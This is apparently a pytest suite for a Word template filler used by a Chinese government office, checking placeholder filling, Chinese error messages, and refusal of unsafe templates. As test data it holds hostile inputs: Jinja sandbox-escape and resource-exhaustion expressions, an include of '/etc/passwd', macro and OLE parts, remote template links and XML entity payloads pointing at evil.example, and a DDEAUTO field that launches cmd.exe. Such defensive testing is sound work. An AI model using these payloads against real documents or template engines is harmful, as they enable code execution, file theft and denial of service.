"""The office's own Word templates: filled with a record, told what is wrong with them, and never let do anything."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from docx import Document

from app.core.errors import InvalidValueError
from app.forms.papers.form_records import FormRecord
from app.forms.templates.template_file import WordTemplate, find_templates, template_folders
from app.forms.templates.template_sample import write_sample_template
from app.forms.templates.word_template import fill_template, template_words
from app.ledgers.problems.problem import PROBLEM
from app.ledgers.registry import LEDGERS
from app.ledgers.schema.declaration import Ledger

TODAY = dt.date(2023, 11, 20)


def record(ledger: Ledger = PROBLEM, **values: object) -> FormRecord:
    own = {spec.name: spec.kind.empty for spec in ledger.fields.values()} | values
    children = {child.key: [{name: spec.kind.empty for name, spec in child.specs.items()}] for child in ledger.children}
    return FormRecord(own, children)


def template(folder: Path, *paragraphs: str) -> WordTemplate:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    document.save(folder / "表样.docx")
    return WordTemplate(folder / "表样.docx")


def text_of(path: Path) -> str:
    return re.sub(r"<[^>]+>", "", ZipFile(path).read("word/document.xml").decode())


def filled(folder: Path, *paragraphs: str, **values: object) -> str:
    found = record(**values)
    fill_template(template(folder, *paragraphs), template_words(PROBLEM, found, "市政协机关党委", TODAY), folder / "填好.docx")
    return text_of(folder / "填好.docx")


def test_fields_are_named_by_their_labels(tmp_path: Path) -> None:
    marks = "{{问题表述}}｜{{整改时限日期}}｜{{填报单位}}｜{{打印日期}}"
    text = filled(tmp_path, marks, statement="学用<脱节> & 不够", deadline_date="2023-11-30")
    assert "学用&lt;脱节&gt; &amp; 不够｜2023年11月30日｜市政协机关党委｜2023年11月20日" in text


def test_entries_are_looped_over(tmp_path: Path) -> None:
    found = record(progress="最新")
    found.children["progress"][:] = [{"day": "2023-11-01", "content": "甲"}, {"day": "2023-10-01", "content": "乙"}]  # type: ignore[index]
    words = template_words(PROBLEM, found, "", TODAY)
    fill_template(
        template(tmp_path, "{% for 行 in 进展 %}{{行.日期}}{{行.进展情况}}；{% endfor %}{{进展}}"), words, tmp_path / "x.docx"
    )
    assert "2023年11月1日甲；2023年10月1日乙；最新" in text_of(tmp_path / "x.docx")


@pytest.mark.parametrize("ledger", LEDGERS, ids=lambda ledger: ledger.key)
def test_the_sample_of_every_ledger_can_be_filled(ledger: Ledger, tmp_path: Path) -> None:
    write_sample_template(ledger, tmp_path / "示例.docx")
    fill_template(
        WordTemplate(tmp_path / "示例.docx"), template_words(ledger, record(ledger), "单位", TODAY), tmp_path / "填好.docx"
    )
    text = text_of(tmp_path / "填好.docx")
    assert "{{" not in text
    assert "{%" not in text
    assert all(spec.label in text for spec in ledger.fields.values())


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("{{问题表述", "写法有误"),
        ("{% for 行 in 进展 %}{{行.日期}}", "写法有误"),
        ("{{没有的字段}}", "没有的字段“没有的字段”"),
        ("{% for 行 in 进展 %}{{行.颜色}}{% endfor %}", "没有的字段“颜色”"),
        ("{{ 问题表述.__class__.__mro__ }}", "不允许|没有的字段"),
        ("{{ 'a' * 1000000000 }}", "不允许"),
        ("{{ 9 ** 999999 }}", "不允许"),
        ("{{ 进展.append(1) }}", "不允许"),
        ("{% for i in range(200) %}{% for j in range(200) %}" + "甲" * 1_000 + "{% endfor %}{% endfor %}", "不允许"),
        ("{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}", "不允许"),
        ("{% for a in 记录 %}{% for b in 记录 %}{% for c in 记录 %}{% endfor %}{% endfor %}{% endfor %}", "不允许"),
        ("{% for i in 进展 recursive %}{{ loop(进展) }}{% endfor %}", "不允许"),
        ("{% macro f() %}{{ f() }}{{ f() }}{% endmacro %}{{ f() }}", "不允许"),
        ("{% set x = 责任人 ~ 责任人 %}", "不允许"),
        ("{{ 责任人.ljust(999999999) }}", "不允许"),
        ("{{ 责任人|center(999999999) }}", "写法有误"),
        ("{{ '%999999999d' % 1 }}", "不允许"),
        ("{{ '{:>999999999}'.format(1) }}", "不允许"),
        ("{{ (责任人|replace('', 责任人))|replace('', 责任人 + 问题表述 + 'x') * 99999 }}", "不允许"),
        ("{{ lipsum(n=99999) }}", "不允许|没有的字段"),
        ("{% include '/etc/passwd' %}", "不允许"),
        ("{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}", "太复杂"),
        ("{{ 1 // 0 }}", "算不出来"),
        ("{{问题 表述}}", "写法有误（字段名称中有空格"),
        ("{{阶段目标[3].日期}}", "要取第 4 条，但这条记录没有那么多条"),
        ("责任人：{责任人}", "只有一层括号，没有填写。位置：正文第 1 段"),
        ("{{r 责任人 }}", "的占位符以“r ”开头，会打成空白，没有填写。位置：正文第 1 段"),
        ("{{p 进展 }}", "的占位符以“p ”开头，会打成空白"),
        ("责任人{{tr 责任人}}", "的占位符以“tr ”开头，会打成空白"),
    ],
)
def test_mistakes_and_tricks_are_told_in_chinese(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(InvalidValueError, match=message):
        filled(tmp_path, text)
    assert not (tmp_path / "填好.docx").exists()


def test_what_a_form_needs_of_jinja_is_there(tmp_path: Path) -> None:
    text = "{% for i in range(3) %}行{{ loop.index }}；{% endfor %}{{ 责任人|default('无')|replace('、', '，') }}{{ '甲 乙'.split(' ')|join('/') }}"
    assert "行1；行2；行3；" in filled(tmp_path, text)
    assert "甲/乙" in filled(tmp_path, text)


def in_table(folder: Path, *texts: str) -> WordTemplate:
    """A template with a paragraph and a table of one column."""
    document = Document()
    document.add_paragraph("问题登记表")
    table = document.add_table(rows=len(texts), cols=2)
    for row, text in enumerate(texts):
        table.cell(row, 0).text, table.cell(row, 1).text = "项目", text
    document.save(folder / "表样.docx")
    return WordTemplate(folder / "表样.docx")


@pytest.mark.parametrize(
    ("texts", "place"),
    [
        (("{{责任部门}}", "{{没有的字段}}"), "第 1 个表格第 2 行第 2 格“{{没有的字段}}”"),
        (("{{责任部门}}", "{{责任人", "{{责任领导}}"), "第 1 个表格第 2 行第 2 格“{{责任人”"),
        (("{%tr for 行 in 进展 %}", "{{行.颜色}}", "{%tr endfor %}"), "第 1 个表格第 2 行第 2 格“{{行.颜色}}”"),
        (("{{责任部门}}", "{% if 责任人 %}有"), "第 1 个表格第 2 行第 2 格“{% if 责任人 %}有”"),
        (("{{责任部门}}", "完{% endif %}"), "第 1 个表格第 2 行第 2 格“完{% endif %}”"),
        (("{{责任部门}}", "{{ 'a' * 100000 }}"), "第 1 个表格第 2 行第 2 格"),
        (("{{责任部门}}", "{{ 1 // 0 }}"), "第 1 个表格第 2 行第 2 格“{{ 1 // 0 }}”"),
        (("{{责任部门}}", "{{ 责任人 责任领导 }}"), "第 1 个表格第 2 行第 2 格“{{ 责任人 责任领导 }}”"),
    ],
)
def test_a_mistake_in_a_table_is_told_with_its_cell(tmp_path: Path, texts: tuple[str, ...], place: str) -> None:
    words = template_words(PROBLEM, record(), "市政协机关党委", TODAY)
    with pytest.raises(InvalidValueError) as told:
        fill_template(in_table(tmp_path, *texts), words, tmp_path / "填好.docx")
    assert f"位置：{place}" in told.value.message


def test_a_mistake_in_the_text_is_told_with_its_paragraph(tmp_path: Path) -> None:
    with pytest.raises(InvalidValueError, match=r"位置：正文第 2 段“责任人：\{\{责任入\}\}”。"):
        filled(tmp_path, "问题：{{问题表述}}", "", "责任人：{{责任入}}")


def test_a_mistake_in_the_head_of_the_page_is_told(tmp_path: Path) -> None:
    document = Document()
    document.add_paragraph("{{问题表述}}")
    document.sections[0].header.paragraphs[0].text = "单位：{{单为}}"
    document.save(tmp_path / "表样.docx")
    words = template_words(PROBLEM, record(), "市政协机关党委", TODAY)
    with pytest.raises(InvalidValueError, match=r"位置：页眉第 1 段“单位：\{\{单为\}\}”"):
        fill_template(WordTemplate(tmp_path / "表样.docx"), words, tmp_path / "填好.docx")


def with_part(folder: Path, name: str, content: bytes) -> WordTemplate:
    found = template(folder, "{{问题表述}}")
    with ZipFile(found.path, "a", ZIP_DEFLATED) as package:
        package.writestr(name, content)
    return found


LINK = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("word/vbaProject.bin", b"x", "宏"),
        ("word/embeddings/oleObject1.bin", b"x", "嵌入"),
        ("word/_rels/settings.xml.rels", LINK, "外部链接"),
        ("word/extra.xml", b"<!DOCTYPE x [<!ENTITY a 'b'>]><x/>", "有害"),
        ("word/utf16.xml", "<!DOCTYPE x [<!ENTITY a 'b'>]><x/>".encode("utf-16"), "有害"),
        ("word/utf16be.xml", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>'.encode("utf-16-be"), "有害"),
        ("word/utf32.xml", "<!DOCTYPE x [<!ENTITY a 'b'>]><x/>".encode("utf-32"), "有害"),
        ("word/late.xml", b"<!--" + b" " * 200_000 + b"--><!DOCTYPE x><x/>", "有害"),
        ("word/bomb.xml", b"0" * 310_000_000, "有害"),
    ],
)
def test_live_content_is_refused(tmp_path: Path, name: str, content: bytes, message: str) -> None:
    with pytest.raises(InvalidValueError, match=message):
        fill_template(with_part(tmp_path, name, content), {}, tmp_path / "x.docx")


def instruction(*words: str) -> str:
    """A field whose code is cut into pieces, as Word does."""
    pieces = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)
    begin, between, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    return f"{begin}{pieces}{between}<w:r><w:t>x</w:t></w:r>{end}"


WORDS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
NESTED = instruction("QUOTE 68 68 69").join(instruction("|", "calc").split("<w:r><w:instrText>|</w:instrText></w:r>"))
FIELDS = {
    "DDEAUTO": instruction("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", ' "/c calc"'),
    "DDE": instruction(" D", "D", "e excel x"),
    "INCLUDETEXT": instruction("includetext ", '"http://evil.example/a.docx"'),
    "INCLUDEPICTURE": '<w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/a.png \\d"/>',
    "LINK": instruction("IF 1 = 1 ") + instruction("LINK Excel.Sheet.8 a.xls"),
    "MACROBUTTON": instruction("MACROBUTTON Run x").replace('<w:r><w:fldChar w:fldCharType="end"/></w:r>', ""),
    "…": NESTED,
}


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_fields_that_load_or_run_something_are_refused(tmp_path: Path, field: str, encoding: str) -> None:
    content = f'<?xml version="1.0" encoding="{encoding}"?><w:hdr {WORDS}><w:p>{FIELDS[field]}</w:p></w:hdr>'.encode(encoding)
    with pytest.raises(InvalidValueError, match=f"域（{field}）"):
        fill_template(with_part(tmp_path, "word/header9.xml", content), {}, tmp_path / "x.docx")


def test_fields_that_only_count_or_point_within_the_document_are_kept(tmp_path: Path) -> None:
    fields = ("PAGE", " NUMPAGES \\* Arabic", 'HYPERLINK "http://x"', "=1+1", "IF 1 = 1 a b", "TOC", 'DATE \\@ "yyyy年M月d日"')
    content = f"<w:hdr {WORDS}><w:p>{''.join(map(instruction, fields))}</w:p></w:hdr>".encode()
    inner = f"<w:r><w:instrText>IF </w:instrText></w:r>{instruction('PAGE')}<w:r><w:instrText> = 1 a b</w:instrText></w:r>"
    content = content.replace(
        b"</w:p>", inner.join(instruction("|").split("<w:r><w:instrText>|</w:instrText></w:r>")).encode() + b"</w:p>"
    )
    fill_template(with_part(tmp_path, "word/header9.xml", content), {"问题表述": "x"}, tmp_path / "x.docx")
    assert (tmp_path / "x.docx").exists()


@pytest.mark.parametrize("kind", ["aFChunk", "subDocument", "oleObject", "control"])
def test_documents_and_objects_within_a_template_are_refused_by_whatever_name(tmp_path: Path, kind: str) -> None:
    link = (
        LINK.replace(b"attachedTemplate", kind.encode())
        .replace(b' TargetMode="External"', b"")
        .replace(b"http://evil.example/x.dotm", b"a.bin")
    )
    with pytest.raises(InvalidValueError, match="嵌入"):
        fill_template(with_part(tmp_path, "word/_rels/header9.xml.RELS", link), {}, tmp_path / "x.docx")


def test_what_is_no_word_document_is_refused(tmp_path: Path) -> None:
    for name, content in (("a.docm", b"PK"), ("b.docx", b"not a zip"), ("c.doc", b"\xd0\xcf")):
        (tmp_path / name).write_bytes(content)
        with pytest.raises(InvalidValueError):
            fill_template(WordTemplate(tmp_path / name), {}, tmp_path / "x.docx")


def test_one_that_was_deleted_meanwhile_says_so(tmp_path: Path) -> None:
    with pytest.raises(InvalidValueError, match=r"“表样\.docx”已不在表样文件夹里，可能被删除或改名") as told:
        fill_template(WordTemplate(tmp_path / "表样.docx"), {}, tmp_path / "x.docx")
    assert told.value.advice == "请重新打开打印菜单，选择现有的表样。"


@pytest.mark.parametrize("part", ["word/styles.xml", "_rels/.rels", "word/document.xml", "[Content_Types].xml"])
@pytest.mark.parametrize("left", [0.0, 0.6])
def test_a_document_that_lost_a_part_is_called_damaged(tmp_path: Path, part: str, left: float) -> None:
    """A disk that was full while Word saved, or a copy that broke off: the archive opens, the document does not."""
    path = template(tmp_path, "{{问题表述}}").path
    with ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    with ZipFile(path, "w", ZIP_DEFLATED) as package:
        for name, content in parts.items():
            if name != part or left:
                package.writestr(name, content[: int(len(content) * left)] if name == part else content)
    with pytest.raises(InvalidValueError, match="不是 Word 文档"):
        fill_template(WordTemplate(path), template_words(PROBLEM, record(), "党办", TODAY), tmp_path / "x.docx")


def test_templates_of_the_office_come_before_those_of_this_pc(tmp_path: Path) -> None:
    shared, local = template_folders(tmp_path / "共享", tmp_path / "本机", PROBLEM)
    for folder in (shared, local):
        folder.mkdir(parents=True)
        template(folder, "x")
    (local / "~$锁.docx").write_bytes(b"")
    template(local, "y").path.rename(local / "另一个.docx")
    assert [found.path for found in find_templates((shared, local))] == [shared / "表样.docx", local / "另一个.docx"]
    assert find_templates((tmp_path / "没有",)) == ()


def test_a_placeholder_that_an_office_program_has_cut_into_pieces_is_filled(tmp_path: Path) -> None:
    """Word and LibreOffice begin another run wherever spelling, font or cursor changed: in text, cells and head alike."""
    document = Document()
    table = document.add_table(rows=1, cols=1)
    header = document.sections[0].header.paragraphs[0]
    for paragraph, pieces in (
        (document.add_paragraph("问题："), ("{", "{问题", "表述}", "}")),
        (table.cell(0, 0).paragraphs[0], ("{{责", "任部", "门}}")),
        (header, ("{{", "填报", "单位", "}}")),
    ):
        for place, piece in enumerate(pieces):
            paragraph.add_run(piece).bold = bool(place % 2)
    document.save(tmp_path / "表样.docx")
    words = template_words(PROBLEM, record(), "市政协机关党委", TODAY)
    fill_template(WordTemplate(tmp_path / "表样.docx"), words, tmp_path / "填好.docx")
    found = Document(tmp_path / "填好.docx")
    assert found.paragraphs[0].text == f"问题：{words['问题表述']}"
    assert found.tables[0].cell(0, 0).text == words["责任部门"]
    assert found.sections[0].header.paragraphs[0].text == "市政协机关党委"


def test_wide_braces_of_a_chinese_keyboard_are_told(tmp_path: Path) -> None:
    with pytest.raises(InvalidValueError, match=r"全角括号.*正文第 2 段“责任人：｛｛责任人｝｝”"):
        filled(tmp_path, "问题：{{问题表述}}", "责任人：｛｛责任人｝｝")
